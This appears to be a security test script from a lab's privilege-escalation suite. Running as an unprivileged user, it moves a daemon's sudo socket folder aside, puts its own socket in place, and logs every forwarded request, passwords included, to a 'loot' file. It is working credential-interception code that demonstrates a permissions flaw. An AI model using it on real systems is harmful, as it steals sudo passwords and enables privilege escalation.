"""Run by the UNPRIVILEGED node user (nobody) in a node shell, in the foreground (tests/priv).

Moves the daemon's sudo socket folder aside (run/ is world-writable without the sticky bit),
puts its own socket in place, logs every request (password included) to run/loot.<node>,
and forwards it to the real socket (it descends from the daemon, so the daemon admits it).
"""
import json, os, socket, sys, threading, time
lab, node = os.environ["FABTUNE_LAB_DIR"], os.environ["FABTUNE_LAB_NODE"]
run = os.path.join(lab, "run")
real_dir = os.path.join(run, "sudo.real")
if not os.path.isdir(real_dir):
    os.rename(os.path.join(run, "sudo"), real_dir)
    os.mkdir(os.path.join(run, "sudo"))
    os.chmod(os.path.join(run, "sudo"), 0o755)
real = os.path.join(real_dir, f"{node}.sock")
mine = os.path.join(run, "sudo", f"{node}.sock")
loot = os.path.join(run, f"loot.{node}")
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(mine); os.chmod(mine, 0o666); srv.listen(16)
print("MITM-READY", flush=True)
deadline = time.time() + float(sys.argv[1] if len(sys.argv) > 1 else 60)
srv.settimeout(0.5)
def serve(c):
    data, fds, _, _ = socket.recv_fds(c, 1 << 20, 3)
    with open(loot, "a") as f:
        f.write(data.decode(errors="replace"))
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); u.connect(real)
    if fds: socket.send_fds(u, [data], fds)
    else: u.sendall(data)
    for fd in fds: os.close(fd)
    while True:
        chunk = u.recv(65536)
        if not chunk: break
        c.sendall(chunk)
    c.close(); u.close()
while time.time() < deadline:
    try:
        c, _ = srv.accept()
    except socket.timeout:
        continue
    threading.Thread(target=serve, args=(c,), daemon=True).start()
